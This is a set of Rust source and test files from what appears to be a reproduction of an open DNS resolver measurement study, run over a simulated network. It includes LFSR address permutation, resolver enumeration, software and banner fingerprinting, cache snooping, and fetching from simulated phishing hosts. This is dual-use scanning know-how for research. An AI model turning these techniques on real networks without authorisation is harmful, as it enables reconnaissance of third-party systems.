        (250..=320).contains(&landing_total),
        "landing={landing_total}"
    );
    assert_eq!(w.infra.cdn_default_cns.len(), 2);
}

#[test]
fn behavior_population_includes_case_studies() {
    let w = build_world(WorldConfig::tiny(11));
    let count = |k: BehaviorKind| w.resolvers.iter().filter(|m| m.behavior == k).count();
    assert!(count(BehaviorKind::ProxyHttp) >= 1);
    assert!(count(BehaviorKind::PhishPaypal) >= 1);
    assert!(count(BehaviorKind::NxMonetizer) > 50);
    assert!(count(BehaviorKind::StaticError) > 10);
    assert!(count(BehaviorKind::Honest) > w.resolvers.len() / 3);
    // CN censorship dominates CN population.
    let cn: Vec<_> = w
        .resolvers
        .iter()
        .filter(|m| {
            m.country == geodb::Country::new("CN")
                && m.response_class == worldgen::world::ResponseClass::NoError
        })
        .collect();
    let poisoned = cn
        .iter()
        .filter(|m| {
            matches!(
                m.behavior,
                BehaviorKind::GfwPoisoned | BehaviorKind::GfwEscape
            )
        })
        .count();
    assert!(
        poisoned as f64 / cn.len() as f64 > 0.5,
        "GFW-poisoned {poisoned}/{}",
        cn.len()
    );
}

#[test]
fn blacklist_covers_ranges_and_singles() {
    let w = tiny_world();
    assert!(!w.blacklist_ranges.is_empty(), "opt-out ranges exist");
    assert!(!w.blacklist_singles.is_empty(), "individual opt-outs exist");
    // Blacklisted space is a small fraction of the scannable space.
    let bl: u64 = w
        .blacklist_ranges
        .iter()
        .map(|(a, b)| (u32::from(*b) - u32::from(*a) + 1) as u64)
        .sum();
    assert!(bl * 10 < w.scannable_size(), "blacklist {bl} too large");
}

#[test]
fn scannable_space_is_compact() {
    let w = tiny_world();
    let size = w.scannable_size();
    assert!(size > w.stats.resolvers as u64, "space must hold the fleet");
    assert!(
        size < 60 * w.stats.resolvers as u64,
        "space {size} too sparse to scan"
    );
}
