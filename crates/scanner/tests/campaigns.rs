//! End-to-end campaign tests on a tiny simulated world.

use dnswire::Rcode;
use scanner::campaign::enumerate::verify_scan;
use scanner::{
    acquire, banner_scan, chaos_scan, enumerate, scan_domains, snoop_scan, track_cohort,
    ChaosObservation,
};
use worldgen::{build_world, WorldConfig};

fn world() -> worldgen::World {
    build_world(WorldConfig::tiny(2026))
}

#[test]
fn enumeration_finds_the_fleet() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let result = enumerate(&mut w, vantage, 1);
    let counts = result.counts();
    let all = counts["ALL"];
    let noerror = counts["NOERROR"];
    let truth = w.alive_counts();
    let truth_noerror = truth[&worldgen::world::ResponseClass::NoError] as u64;

    assert!(all > 0);
    // Loss-free tiny world: we should find every alive NOERROR resolver
    // except those whose addresses opted out of scanning.
    let blacklist =
        scanner::Blacklist::new(w.blacklist_ranges.clone(), w.blacklist_singles.clone());
    let opted_out = w
        .resolvers
        .iter()
        .filter(|m| {
            m.response_class == worldgen::world::ResponseClass::NoError
                && w.resolver_ip(m)
                    .map(|ip| blacklist.contains(ip))
                    .unwrap_or(false)
        })
        .count() as u64;
    assert!(
        noerror + opted_out >= (truth_noerror as f64 * 0.97) as u64,
        "noerror={noerror} opted_out={opted_out} truth={truth_noerror}"
    );
    assert!(counts.get("REFUSED").copied().unwrap_or(0) > 0);
    assert!(counts.get("SERVFAIL").copied().unwrap_or(0) > 0);
    assert!(noerror > counts["REFUSED"] * 5);
    // Leaky CPE forwarders answer via their upstream: the response
    // source mismatches the probed target (Sec. 2.2's 630k-750k).
    assert!(
        result.mismatched_sources() > 0,
        "expected source-mismatch responders"
    );
}

#[test]
fn blacklisted_addresses_are_never_probed() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let blacklist =
        scanner::Blacklist::new(w.blacklist_ranges.clone(), w.blacklist_singles.clone());
    assert!(!blacklist.is_empty());
    let result = enumerate(&mut w, vantage, 99);
    assert!(result.skipped_blacklisted > 0, "some space must be skipped");
    for ip in result.observations.keys() {
        assert!(!blacklist.contains(*ip), "{ip} is blacklisted but observed");
    }
}

#[test]
fn verification_scan_sees_scanner_blocked_networks() {
    let mut w = world();
    let vantage = w.scanner_ip;
    // Move past the pair-filter activation weeks.
    w.advance_to_week(30);
    let primary = enumerate(&mut w, vantage, 2);
    let report = verify_scan(&mut w, &primary, 2);
    // The 21 scanner-blacklisting networks answer only the secondary
    // vantage.
    assert!(
        report.missed_noerror > 0,
        "secondary vantage must see blocked networks"
    );
    // But the miss rate is small (<~2% of the fleet, paper: <1%).
    assert!(
        (report.missed_noerror as f64) < 0.05 * report.primary_noerror as f64,
        "missed {} of {}",
        report.missed_noerror,
        report.primary_noerror
    );
}

#[test]
fn chaos_scan_recovers_software_mix() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let result = enumerate(&mut w, vantage, 3);
    let fleet = result.noerror_ips();
    let obs = chaos_scan(&mut w, vantage, &fleet, 3);
    assert!(!obs.is_empty());
    let total = obs.len() as f64;
    let versions = obs
        .values()
        .filter(|o| matches!(o, ChaosObservation::Version(_)))
        .count() as f64;
    let errors = obs
        .values()
        .filter(|o| matches!(o, ChaosObservation::Errors))
        .count() as f64;
    // Paper: 33.9% genuine + 18.8% custom strings answer with *some*
    // version (≈52.7%); 42.7% error out.
    assert!(
        (0.40..0.65).contains(&(versions / total)),
        "version share {}",
        versions / total
    );
    assert!(
        (0.30..0.55).contains(&(errors / total)),
        "error share {}",
        errors / total
    );
    // BIND 9.8.2 should be the most common genuine version.
    let mut hist: std::collections::HashMap<&str, usize> = std::collections::HashMap::new();
    for o in obs.values() {
        if let ChaosObservation::Version(v) = o {
            if v.starts_with("BIND") || v.contains("Dnsmasq") || v.contains("Unbound") {
                *hist.entry(v.as_str()).or_insert(0) += 1;
            }
        }
    }
    let top = hist.iter().max_by_key(|(_, n)| **n).map(|(v, _)| *v);
    assert_eq!(top, Some("BIND 9.8.2"));
}

#[test]
fn banner_scan_matches_tcp_exposure() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let result = enumerate(&mut w, vantage, 4);
    let fleet = result.noerror_ips();
    let banners = banner_scan(&mut w, &fleet);
    let share = banners.len() as f64 / fleet.len() as f64;
    // Paper: 26.3% respond to at least one TCP probe.
    assert!((0.18..0.36).contains(&share), "tcp share {share}");
    // ZyNOS routers are identifiable.
    let zynos = banners
        .values()
        .filter(|b| b.corpus().contains("ZyNOS") || b.corpus().contains("ZyRouter"))
        .count();
    assert!(zynos > 0, "expected ZyNOS banners");
}

#[test]
fn domain_scan_separates_honest_and_bogus() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let result = enumerate(&mut w, vantage, 5);
    let fleet = result.noerror_ips();
    let domains = vec![
        "paypal.example".to_string(),
        "facebook.example".to_string(),
        "qzxkjv.example".to_string(), // NX
    ];
    let tuples = scan_domains(&mut w, vantage, &fleet, &domains, 5);
    assert!(!tuples.is_empty());

    // paypal answers: mostly the legit hosting IPs.
    let legit_paypal = w.infra.legit_ips["paypal.example"].clone();
    let paypal: Vec<_> = tuples.iter().filter(|t| t.domain_idx == 0).collect();
    let legit_share = paypal
        .iter()
        .filter(|t| !t.ips.is_empty() && t.ips.iter().all(|i| legit_paypal.contains(i)))
        .count() as f64
        / paypal.len() as f64;
    assert!(legit_share > 0.85, "paypal legit share {legit_share}");

    // facebook: Chinese resolvers must return forged answers.
    let legit_fb = w.infra.legit_ips["facebook.example"].clone();
    let fb_bogus = tuples
        .iter()
        .filter(|t| {
            t.domain_idx == 1 && !t.ips.is_empty() && t.ips.iter().all(|i| !legit_fb.contains(i))
        })
        .count();
    assert!(fb_bogus > 10, "censored facebook answers: {fb_bogus}");

    // NX domain: some resolvers monetize (answer with IPs).
    let nx_with_ips = tuples
        .iter()
        .filter(|t| t.domain_idx == 2 && !t.ips.is_empty() && t.rcode == Rcode::NoError)
        .count();
    let nx_nx = tuples
        .iter()
        .filter(|t| t.domain_idx == 2 && t.rcode == Rcode::NxDomain)
        .count();
    assert!(nx_with_ips > 5, "monetized NX: {nx_with_ips}");
    assert!(nx_nx > nx_with_ips, "honest NXDOMAIN should dominate");

    // Double responses exist (GFW escapes).
    let doubles = tuples.iter().filter(|t| t.response_ordinal > 0).count();
    let _ = doubles; // may be zero at tiny scale; the full experiment checks it
}

#[test]
fn snoop_scan_observes_cache_cycles() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let result = enumerate(&mut w, vantage, 6);
    let fleet: Vec<_> = result.noerror_ips().into_iter().take(60).collect();
    let snooped = snoop_scan(&mut w, vantage, &fleet, 36, 6);
    assert!(!snooped.is_empty());
    // Someone must show a re-add after expiry (in-use resolvers).
    let mut saw_readd = false;
    for res in snooped.values() {
        for tld in 0..res.tld_count {
            let series = res.tld_series(tld);
            let mut was_absent = false;
            for s in series {
                match s {
                    scanner::SnoopSample::NoEntry => was_absent = true,
                    scanner::SnoopSample::Ttl(_) if was_absent => {
                        saw_readd = true;
                    }
                    _ => {}
                }
            }
        }
    }
    assert!(saw_readd, "no TLD re-add observed across 60 resolvers");
}

#[test]
fn churn_tracking_shows_decay() {
    let mut w = world();
    let vantage = w.scanner_ip;
    let result = enumerate(&mut w, vantage, 7);
    let cohort = result.noerror_ips();
    let churn = track_cohort(&mut w, vantage, &cohort, 3, 7);
    assert_eq!(churn.cohort, cohort.len() as u64);
    // Day-1 survivors: paper says <60% (>40% gone in a day).
    let day1 = churn.day1_survivors as f64 / churn.cohort as f64;
    assert!((0.35..0.80).contains(&day1), "day1 survival {day1}");
    // Week-1 survival ≈ 47.8% in the paper.
    let w1 = churn.survival_at_week(1);
    assert!((0.30..0.65).contains(&w1), "week-1 survival {w1}");
    // Monotone-ish decay.
    assert!(churn.survival_at_week(3) <= churn.survival_at_week(1) + 0.02);
    // Dynamic rDNS dominates day-one leavers that have records.
    assert!(
        churn.day1_leavers_dynamic_rdns * 10 > churn.day1_leavers_with_rdns * 5,
        "dynamic {} of {}",
        churn.day1_leavers_dynamic_rdns,
        churn.day1_leavers_with_rdns
    );
}

#[test]
fn acquisition_fetches_phish_and_portal_content() {
    let mut w = world();
    let vantage = w.scanner_ip;

    // Phishing host content via a phishing resolver.
    let phish_ip = w.infra.phish_ips[0];
    let got = acquire(&mut w, vantage, phish_ip, "paypal.example", phish_ip, false);
    let http = got.http.expect("phish kit serves HTTP");
    assert!(http.body.contains("collect.php"));

    // Captive portal: redirect followed to the login page.
    let portal_ip = w.infra.portal_ips[0];
    let got = acquire(
        &mut w,
        vantage,
        portal_ip,
        "weatherhub.example",
        portal_ip,
        false,
    );
    let http = got.http.expect("portal serves HTTP");
    assert_eq!(http.redirects, 1);
    assert!(
        http.body.contains("authenticate"),
        "{}",
        &http.body[..120.min(http.body.len())]
    );

    // Mail interception banners.
    let mail_ip = w.infra.mail_intercept_ips[0];
    let got = acquire(
        &mut w,
        vantage,
        mail_ip,
        "smtp.gmail.example",
        mail_ip,
        true,
    );
    assert!(!got.mail_banners.is_empty());

    // HTTP-only proxy refuses TLS but serves content.
    let proxy = w.infra.proxy_http_ips[0];
    let got = acquire(&mut w, vantage, proxy, "paypal.example", proxy, false);
    assert!(got.http.is_some());
    assert!(got.https_sni.is_none());
}
