//! Property tests for the scanner's algorithmic core: the LFSR
//! permutation and the resolver-identifier encoding.

use dnswire::{Message, MessageBuilder, Rcode, RecordType};
use proptest::prelude::*;
use scanner::{decode_probe, encode_probe, enumeration_query, target_from_qname, IpPermutation};
use std::collections::HashSet;
use std::net::Ipv4Addr;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// The permutation visits every address exactly once, for arbitrary
    /// range layouts.
    #[test]
    fn permutation_is_a_bijection(
        seed in any::<u64>(),
        // Up to 4 disjoint ranges with gaps between them.
        sizes in proptest::collection::vec(1u32..500, 1..4),
        gaps in proptest::collection::vec(1u32..10_000, 4),
        base in 0x0B00_0000u32..0x20000000,
    ) {
        let mut ranges = Vec::new();
        let mut cursor = base;
        for (i, &size) in sizes.iter().enumerate() {
            let start = cursor;
            let end = start + size - 1;
            ranges.push((Ipv4Addr::from(start), Ipv4Addr::from(end)));
            cursor = end + 1 + gaps[i % gaps.len()];
        }
        let total: u64 = sizes.iter().map(|&s| s as u64).sum();
        let perm = IpPermutation::new(&ranges, seed);
        prop_assert_eq!(perm.len(), total);
        let visited: Vec<Ipv4Addr> = perm.collect();
        prop_assert_eq!(visited.len() as u64, total);
        let set: HashSet<&Ipv4Addr> = visited.iter().collect();
        prop_assert_eq!(set.len() as u64, total, "duplicates found");
        for ip in &visited {
            let v = u32::from(*ip);
            prop_assert!(
                ranges.iter().any(|(a, b)| (u32::from(*a)..=u32::from(*b)).contains(&v)),
                "{} outside every range", ip
            );
        }
    }

    /// Probe encoding round-trips through a simulated response for every
    /// 25-bit identifier, with or without a usable arrival port.
    #[test]
    fn probe_identifier_round_trips(id in 0u32..(1 << 25), rewrite_port in any::<bool>()) {
        let p = encode_probe(id, "okcupid.example");
        let q = MessageBuilder::query(p.txid, p.qname.clone(), RecordType::A).build();
        // Simulate the resolver echoing the question (casing preserved)
        // through a real encode/decode cycle.
        let resp = MessageBuilder::response_to(&q, Rcode::NoError).build();
        let wire = resp.encode();
        let resp = Message::decode(&wire).unwrap();
        let arrival = if rewrite_port { None } else { Some(p.port_offset) };
        prop_assert_eq!(decode_probe(&resp, arrival), Some(id));
    }

    /// The enumeration scan name always carries the target address,
    /// whatever the target.
    #[test]
    fn enumeration_name_encodes_target(raw in any::<u32>(), seed in any::<u64>()) {
        let target = Ipv4Addr::from(raw);
        let (msg, name) = enumeration_query(target, "scan.gwild.example", seed);
        prop_assert_eq!(target_from_qname(&name), Some(target));
        // The query must survive the wire.
        let decoded = Message::decode(&msg.encode()).unwrap();
        prop_assert_eq!(target_from_qname(&decoded.questions[0].qname), Some(target));
    }
}
