//! Linear feedback shift registers and address-space permutation.
//!
//! The paper's scanner "applies a linear feedback shift register (LFSR)
//! of order 2³²−1 to distribute the sequence of target IP addresses",
//! so that "scanned networks receive a limited number of DNS requests
//! within a short time frame" (Sec. 2.2). A maximal-length Galois LFSR
//! of degree *n* visits every value in `1..2^n` exactly once, in an
//! order that scatters numerically adjacent values — which is exactly
//! the politeness property (ablation A-ABL5 quantifies it).
//!
//! [`IpPermutation`] lifts this to an arbitrary set of address ranges:
//! it picks the smallest sufficient LFSR degree and skips values beyond
//! the space size (the classic cycle-walking trick).

use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// Maximal-length tap masks (Galois form) per degree. Polynomials from
/// the standard Xilinx/Alfke table; each yields period `2^degree − 1`.
const TAPS: &[(u8, u32)] = &[
    (8, 0xB8),
    (12, 0xE08),
    (16, 0xD008),
    (20, 0x90000),
    (24, 0xE10000),
    (28, 0x9000000),
    (32, 0x80200003),
];

/// A Galois LFSR over `degree` bits with maximal period.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Lfsr {
    state: u32,
    taps: u32,
    degree: u8,
    seed: u32,
}

impl Lfsr {
    /// Construct with the smallest supported degree covering `span`
    /// values, seeded with a nonzero start state derived from `seed`.
    pub fn covering(span: u64, seed: u64) -> Self {
        let needed = 64 - span.max(1).leading_zeros() as u8;
        let &(degree, taps) = TAPS
            .iter()
            .find(|(d, _)| *d >= needed)
            .unwrap_or(TAPS.last().unwrap());
        let mask = if degree == 32 {
            u32::MAX
        } else {
            (1u32 << degree) - 1
        };
        let mut state = (seed as u32 ^ (seed >> 32) as u32) & mask;
        if state == 0 {
            state = 1;
        }
        Lfsr {
            state,
            taps,
            degree,
            seed: state,
        }
    }

    /// Degree of the register.
    pub fn degree(&self) -> u8 {
        self.degree
    }

    /// Period: `2^degree − 1`.
    pub fn period(&self) -> u64 {
        (1u64 << self.degree) - 1
    }

    /// Advance one step and return the new state (never 0).
    pub fn next_state(&mut self) -> u32 {
        let lsb = self.state & 1;
        self.state >>= 1;
        if lsb == 1 {
            self.state ^= self.taps;
        }
        self.state
    }

    /// Whether the register has returned to its seed (full cycle done).
    pub fn cycled(&self) -> bool {
        self.state == self.seed
    }
}

/// Permuted iteration over a union of inclusive IPv4 ranges.
///
/// Yields every address in the ranges exactly once, in LFSR order.
#[derive(Debug, Clone)]
pub struct IpPermutation {
    ranges: Vec<(u32, u32)>,
    /// Cumulative sizes for index → address mapping.
    cumulative: Vec<u64>,
    total: u64,
    lfsr: Lfsr,
    emitted: u64,
    exhausted: bool,
}

impl IpPermutation {
    /// Build a permutation over `ranges` seeded by `seed`.
    pub fn new(ranges: &[(Ipv4Addr, Ipv4Addr)], seed: u64) -> Self {
        let ranges: Vec<(u32, u32)> = ranges
            .iter()
            .map(|(a, b)| (u32::from(*a), u32::from(*b)))
            .collect();
        let mut cumulative = Vec::with_capacity(ranges.len());
        let mut total = 0u64;
        for &(a, b) in &ranges {
            assert!(a <= b, "inverted range");
            total += (b - a + 1) as u64;
            cumulative.push(total);
        }
        IpPermutation {
            lfsr: Lfsr::covering(total, seed),
            ranges,
            cumulative,
            total,
            emitted: 0,
            exhausted: total == 0,
        }
    }

    /// Total number of addresses in the space.
    pub fn len(&self) -> u64 {
        self.total
    }

    /// Whether the space is empty.
    pub fn is_empty(&self) -> bool {
        self.total == 0
    }

    fn index_to_ip(&self, idx: u64) -> Ipv4Addr {
        // Find the range containing the idx-th address.
        let pos = self.cumulative.partition_point(|&c| c <= idx);
        let base = if pos == 0 {
            0
        } else {
            self.cumulative[pos - 1]
        };
        let (a, _) = self.ranges[pos];
        Ipv4Addr::from(a + (idx - base) as u32)
    }
}

impl Iterator for IpPermutation {
    type Item = Ipv4Addr;

    fn next(&mut self) -> Option<Ipv4Addr> {
        if self.exhausted {
            return None;
        }
        // The register enumerates 1..=period exactly once; bit-reversing
        // the state before the range check breaks the shift correlation
        // between successive states (raw Galois states cluster after
        // cycle-walking), then values in 1..=total map to indices.
        let degree = self.lfsr.degree() as u32;
        loop {
            if self.emitted >= self.total {
                self.exhausted = true;
                return None;
            }
            let s = self.lfsr.next_state();
            let candidate = (s.reverse_bits() >> (32 - degree)) as u64;
            if self.lfsr.cycled() && candidate > self.total {
                // Full cycle without covering: impossible for a maximal
                // register with period ≥ total, but guard anyway.
                self.exhausted = true;
                return None;
            }
            if candidate >= 1 && candidate <= self.total {
                self.emitted += 1;
                return Some(self.index_to_ip(candidate - 1));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn lfsr_16_is_maximal() {
        let mut l = Lfsr::covering(40_000, 99);
        assert_eq!(l.degree(), 16);
        let mut seen = HashSet::new();
        for _ in 0..l.period() {
            seen.insert(l.next_state());
        }
        assert_eq!(
            seen.len() as u64,
            l.period(),
            "degree-16 LFSR must be maximal"
        );
        assert!(!seen.contains(&0));
    }

    #[test]
    fn lfsr_smaller_degrees_maximal() {
        for span in [200u64, 3_000, 60_000, 900_000] {
            let mut l = Lfsr::covering(span, 7);
            let mut count = 0u64;
            let period = l.period();
            assert!(period >= span);
            loop {
                l.next_state();
                count += 1;
                if l.cycled() {
                    break;
                }
                assert!(count <= period, "period overrun for span {span}");
            }
            assert_eq!(count, period, "span {span}");
        }
    }

    #[test]
    fn permutation_covers_every_address_once() {
        let ranges = [
            (Ipv4Addr::new(10, 0, 0, 0), Ipv4Addr::new(10, 0, 3, 255)),
            (Ipv4Addr::new(50, 1, 0, 0), Ipv4Addr::new(50, 1, 0, 99)),
        ];
        let perm = IpPermutation::new(&ranges, 1234);
        assert_eq!(perm.len(), 1024 + 100);
        let all: Vec<Ipv4Addr> = perm.collect();
        assert_eq!(all.len(), 1124);
        let set: HashSet<_> = all.iter().collect();
        assert_eq!(set.len(), 1124, "no duplicates");
        for ip in &all {
            let v = u32::from(*ip);
            let in_a = (0x0A000000..=0x0A0003FF).contains(&v);
            let in_b = (0x32010000..=0x32010063).contains(&v);
            assert!(in_a || in_b, "{ip} outside ranges");
        }
    }

    #[test]
    fn permutation_deterministic_per_seed() {
        let ranges = [(Ipv4Addr::new(10, 0, 0, 0), Ipv4Addr::new(10, 0, 0, 255))];
        let a: Vec<_> = IpPermutation::new(&ranges, 5).collect();
        let b: Vec<_> = IpPermutation::new(&ranges, 5).collect();
        let c: Vec<_> = IpPermutation::new(&ranges, 6).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn permutation_scatters_slash24_bursts() {
        // The politeness property: consecutive probes rarely hit the
        // same /24. Compare against sequential order.
        let ranges = [(Ipv4Addr::new(10, 0, 0, 0), Ipv4Addr::new(10, 0, 15, 255))];
        let perm: Vec<Ipv4Addr> = IpPermutation::new(&ranges, 42).collect();
        let window = 64;
        let max_burst = |order: &[Ipv4Addr]| {
            let mut worst = 0usize;
            for chunk in order.windows(window) {
                let mut per24 = std::collections::HashMap::new();
                for ip in chunk {
                    *per24.entry(u32::from(*ip) >> 8).or_insert(0usize) += 1;
                }
                worst = worst.max(*per24.values().max().unwrap());
            }
            worst
        };
        let seq: Vec<Ipv4Addr> = (0x0A000000u32..=0x0A000FFF).map(Ipv4Addr::from).collect();
        let burst_perm = max_burst(&perm);
        let burst_seq = max_burst(&seq);
        assert_eq!(burst_seq, window, "sequential scan hammers one /24");
        // A uniformly random order over 16 /24s would show a worst-case
        // window burst around 13–18 (Poisson tail over ~64k windows);
        // anything ≤ window/2.5 demonstrates the scatter property the
        // paper wants, versus 64 for the sequential scan.
        assert!(
            burst_perm <= window * 2 / 5,
            "permuted burst {burst_perm} too concentrated"
        );
    }

    #[test]
    fn empty_space() {
        let perm = IpPermutation::new(&[], 1);
        assert!(perm.is_empty());
        assert_eq!(perm.count(), 0);
    }

    #[test]
    fn single_address_space() {
        let perm = IpPermutation::new(
            &[(Ipv4Addr::new(9, 9, 9, 9), Ipv4Addr::new(9, 9, 9, 9))],
            77,
        );
        let all: Vec<_> = perm.collect();
        assert_eq!(all, vec![Ipv4Addr::new(9, 9, 9, 9)]);
    }
}
