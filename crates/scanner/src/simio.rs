//! The scanner's socket block over the simulated network.

use netsim::{Datagram, SimTime, SocketHandle};
use std::net::Ipv4Addr;
use worldgen::World;

/// Base port of the scanner's 512-port block (9 encoded bits).
pub const BASE_PORT: u16 = 40_000;

/// A scanning endpoint: 512 UDP sockets on one vantage address.
pub struct SimScanner {
    vantage: Ipv4Addr,
    sockets: Vec<SocketHandle>,
}

impl SimScanner {
    /// Open the port block on `vantage`.
    pub fn open(world: &mut World, vantage: Ipv4Addr) -> Self {
        let sockets = (0..crate::encode::PORT_SPAN)
            .map(|off| world.net.open_socket(vantage, BASE_PORT + off))
            .collect();
        SimScanner { vantage, sockets }
    }

    /// The vantage address.
    pub fn vantage(&self) -> Ipv4Addr {
        self.vantage
    }

    /// Send a DNS payload to `dst:53` from port-block offset `offset`.
    pub fn send(&self, world: &mut World, offset: u16, dst: Ipv4Addr, payload: Vec<u8>) {
        debug_assert!(offset < crate::encode::PORT_SPAN);
        world.net.send_udp(Datagram::new(
            self.vantage,
            BASE_PORT + offset,
            dst,
            53,
            payload,
        ));
    }

    /// Let the simulation run for `ms` of virtual time.
    pub fn pump(&self, world: &mut World, ms: u64) {
        let target = SimTime(world.net.now().millis() + ms);
        world.net.run_until(target);
    }

    /// Close the port block (campaigns call this when done).
    pub fn close(&self, world: &mut World) {
        for sock in &self.sockets {
            world.net.close_socket(*sock);
        }
    }

    /// Drain all received datagrams as `(port_offset, time, datagram)`.
    pub fn drain(&self, world: &mut World) -> Vec<(u16, SimTime, Datagram)> {
        let mut out = Vec::new();
        for (off, sock) in self.sockets.iter().enumerate() {
            for (t, d) in world.net.recv_all(*sock) {
                out.push((off as u16, t, d));
            }
        }
        // Merge in arrival order — netsim queues are per-socket FIFO.
        out.sort_by_key(|(_, t, _)| *t);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use worldgen::{build_world, WorldConfig};

    #[test]
    fn port_block_round_trip() {
        let mut w = build_world(WorldConfig::tiny(3));
        let vantage = w.scanner_ip;
        let scanner = SimScanner::open(&mut w, vantage);
        // Echo through a real resolver: query an honest one.
        let meta = w
            .resolvers
            .iter()
            .find(|m| m.behavior == worldgen::BehaviorKind::Honest && m.spawn_week == 0)
            .unwrap();
        let ip = w.resolver_ip(meta).unwrap();
        let (msg, _) = crate::encode::enumeration_query(ip, &w.catalog.scan_zone.clone(), 1);
        scanner.send(&mut w, 7, ip, msg.encode());
        scanner.pump(&mut w, 3_000);
        let got = scanner.drain(&mut w);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].0, 7, "reply arrives on the sending port");
    }
}
