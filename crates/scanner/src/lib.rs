//! # scanner — the measurement apparatus of the *Going Wild* reproduction
//!
//! Everything the paper's measurement side does, as code:
//!
//! * [`lfsr`] — maximal-length LFSRs and the polite address-space
//!   permutation (Sec. 2.2).
//! * [`encode`] — hex-IP scan names and the 25-bit resolver-identifier
//!   encoding (16-bit TXID + 9-bit source port + 0x20 redundancy,
//!   Sec. 3.3).
//! * [`simio`] — the scanner's socket block over a simulated [`World`].
//! * [`campaign`] — the campaigns: weekly enumeration (Fig. 1),
//!   dual-vantage verification (Sec. 2.2), CHAOS software fingerprinting
//!   (Table 3), TCP banner grabs (Table 4), cohort churn tracking
//!   (Fig. 2), cache snooping (Sec. 2.6), the 155-domain scan
//!   (Sec. 3.3), and HTTP(S)/mail data acquisition (Sec. 3.5).
//! * [`tokio_scan`] — a real-socket (tokio UDP) driver implementing the
//!   enumeration and domain probes against live resolvers; exercised on
//!   loopback against `resolversim::tokioserve` fleets.
//!
//! [`World`]: worldgen::World

pub mod blacklist;
pub mod campaign;
pub mod encode;
pub mod lfsr;
pub mod probe;
pub mod rate;
pub mod simio;
pub mod tokio_scan;

pub use blacklist::Blacklist;
pub use campaign::acquire::{
    acquire, acquire_trusted, acquire_with_policy, resolve_at, Acquired, FetchedPage,
};
pub use campaign::banner::{banner_scan, banner_scan_ex, banner_scan_with_sink, BannerObservation};
pub use campaign::chaos::{
    chaos_scan, chaos_scan_with_policy, chaos_scan_with_sink, ChaosObservation,
};
pub use campaign::churn::{
    churn_from_source, probe_alive_with_policy, track_cohort, track_cohort_with_sink, ChurnResult,
};
pub use campaign::domains::{
    scan_domains, scan_domains_streaming, scan_domains_streaming_with_policy, TupleObs,
};
pub use campaign::enumerate::{enumerate, enumerate_with_sink, EnumObservation, EnumerationResult};
pub use campaign::snoop::{
    decode_snoop_sample, encode_snoop_sample, snoop_from_source, snoop_full_ttls_from_source,
    snoop_scan, snoop_scan_with_policy, snoop_scan_with_sink, SnoopResult, SnoopSample,
};
pub use encode::{decode_probe, encode_probe, enumeration_query, target_from_qname};
pub use lfsr::{IpPermutation, Lfsr};
pub use probe::{response_coverage, tcp_query_with_retry, Coverage, ProbePolicy, RttEstimator};
pub use rate::TokenBucket;
