//! TCP banner grabbing for device fingerprinting (Sec. 2.4).
//!
//! The paper connects to FTP, HTTP, HTTPS, SSH and Telnet on every
//! resolver and aggregates whatever banner/text the services return;
//! 26.3% of resolvers answered on at least one port.

use crate::probe::{tcp_query_with_retry, Coverage, ProbePolicy};
use netsim::{HttpRequest, TcpError, TcpRequest};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use worldgen::World;

/// Ports probed, mirroring the paper's protocol list.
pub const PROBE_PORTS: [u16; 4] = [21, 22, 23, 80];

/// Banners collected from one host.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BannerObservation {
    /// `(port, banner text)` for every responsive service.
    pub banners: Vec<(u16, String)>,
    /// Body of the HTTP front page, when port 80 served one.
    pub http_body: Option<String>,
}

impl BannerObservation {
    /// Whether any TCP service responded.
    pub fn responsive(&self) -> bool {
        !self.banners.is_empty() || self.http_body.is_some()
    }

    /// Concatenated text for regex fingerprinting.
    pub fn corpus(&self) -> String {
        let mut s = String::new();
        for (port, b) in &self.banners {
            s.push_str(&format!("[{port}] {b}\n"));
        }
        if let Some(body) = &self.http_body {
            s.push_str(body);
        }
        s
    }
}

/// Probe every resolver's TCP surface.
pub fn banner_scan(
    world: &mut World,
    resolvers: &[Ipv4Addr],
) -> HashMap<Ipv4Addr, BannerObservation> {
    banner_scan_ex(world, resolvers, &ProbePolicy::single()).0
}

/// [`banner_scan`] under an explicit [`ProbePolicy`], with coverage
/// accounting: timed-out connections are retried per the policy, every
/// TCP error is counted by kind (the old code silently swallowed
/// `Refused`/`Unreachable`/`Timeout`), and the returned [`Coverage`]
/// classifies each host — answered (any connection accepted or
/// actively refused), gave up (some port timed out, none answered) or
/// unreachable (every probe was administratively unreachable). A
/// single-attempt policy is byte-identical to [`banner_scan`].
pub fn banner_scan_ex(
    world: &mut World,
    resolvers: &[Ipv4Addr],
    policy: &ProbePolicy,
) -> (HashMap<Ipv4Addr, BannerObservation>, Coverage) {
    let mut out = HashMap::with_capacity(resolvers.len());
    let mut cov = Coverage::default();
    let (mut refused, mut unreachable, mut timeout) = (0u64, 0u64, 0u64);
    for &ip in resolvers {
        let mut obs = BannerObservation::default();
        let (mut any_ok, mut any_refused, mut any_timeout) = (false, false, false);
        let mut tally = |res: &Result<netsim::TcpResponse, TcpError>| match res {
            Ok(_) => any_ok = true,
            Err(TcpError::Refused) => {
                any_refused = true;
                refused += 1;
            }
            Err(TcpError::Unreachable) => unreachable += 1,
            Err(TcpError::Timeout) => {
                any_timeout = true;
                timeout += 1;
            }
        };
        for port in PROBE_PORTS {
            let (res, r) = tcp_query_with_retry(
                &mut world.net,
                policy,
                "banner",
                ip,
                port,
                &TcpRequest::BannerProbe,
            );
            cov.retries += r;
            tally(&res);
            if let Ok(resp) = res {
                if let Some(b) = resp.as_banner() {
                    obs.banners.push((port, b.to_string()));
                }
            }
        }
        // HTTP body often carries the device identity (login pages).
        let (res, r) = tcp_query_with_retry(
            &mut world.net,
            policy,
            "banner",
            ip,
            80,
